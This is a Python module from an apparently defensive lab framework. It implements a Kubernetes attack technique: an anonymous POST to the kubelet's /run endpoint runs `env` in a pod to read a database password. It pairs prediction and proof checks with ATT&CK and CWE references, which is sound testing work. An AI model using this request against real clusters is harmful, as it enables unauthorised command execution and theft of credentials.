"""Run a command in a container through the kubelet's port, without a credential.

The attacker needs a connection to port 10250 of a worker. They ask the kubelet to run ``env`` in
a container, and read a secret from its environment variables. It succeeds if the kubelet accepts
anonymous requests and allows every request. It stops if anonymous authentication is off, if the
kubelet asks the apiserver for authorization, or if its handlers for debugging are off.
"""

from __future__ import annotations

from typing import TYPE_CHECKING

from labkit.errors import ProbeError
from labkit.model import Foothold, Model
from labkit.techniques._lib.api.ask import ask, first_refusal
from labkit.techniques._lib.api.kubelet import (
    CHANNEL,
    DISABLED,
    as_apiserver,
    kubelet_url,
    retry_unknown_pod,
    runs_commands,
    serves_apiserver,
)
from labkit.techniques._lib.machines.reach import Answer
from labkit.techniques._lib.stores.secret import true_secret
from labkit.techniques._lib.technique import (
    NETWORK,
    POD,
    SECRETS,
    USER_ON_MASTER,
    USER_ON_WORKER,
    Prediction,
    Technique,
    all_of,
)
from labkit.techniques._lib.verdict import Verdict

if TYPE_CHECKING:
    from labkit.lab import Lab

__all__ = ["TECHNIQUE"]

WANTED = ("shop", "db-credentials", "password")
#: The kubelet's endpoint that runs a command with one request and returns its output.
PATH = "/run/shop/web/web?cmd=env"


def predict(model: Model, foothold: Foothold) -> Prediction:
    """Predict whether the kubelet accepts anonymous callers and allows them everything."""
    channel = model.open_channels(CHANNEL)[0]
    return all_of(
        first_refusal(
            (channel.client_authentication, ("anonymous", "none")),
            (channel.authorization, ("allow-all",)),
        ),
        runs_commands(model.environment.component(channel.server)),
    )


def execute(lab: Lab, foothold: Foothold) -> Verdict:
    """Run ``env`` in the pod shop/web through the kubelet."""
    secret = true_secret(lab, *WANTED)

    def proof(answer: Answer) -> str:
        if not secret.found_in(answer.body):
            raise ProbeError("the kubelet answered, but not with the container's environment")
        return f"ran env in shop/web, and read: {secret.proof}"

    def control() -> str:
        return serves_apiserver(lab, lambda: proof(as_apiserver(lab, "POST", PATH)))

    url = kubelet_url(lab, PATH)
    return retry_unknown_pod(
        lab,
        lambda: ask(
            lab,
            TECHNIQUE.name,
            foothold,
            url,
            method="POST",
            more_refusals=(DISABLED,),
            proof=proof,
            control=control,
        ),
    )


TECHNIQUE = Technique(
    name="kubelet-exec",
    title="Run a command in a container through the kubelet",
    footholds=(NETWORK, USER_ON_MASTER, USER_ON_WORKER, POD),
    grants=(POD, SECRETS),
    about=CHANNEL,
    properties=("client_authentication", "authorization"),
    attack=("T1609", "T1552.007"),
    stride=("elevation of privilege", "information disclosure"),
    cwe=("CWE-306", "CWE-862"),
    sources=(
        "Securing communications in Kubernetes (2016), The kubelet",
        "https://kubernetes.io/docs/reference/access-authn-authz/kubelet-authn-authz/",
        "https://attack.mitre.org/techniques/T1609/",
    ),
    predict=predict,
    execute=execute,
)
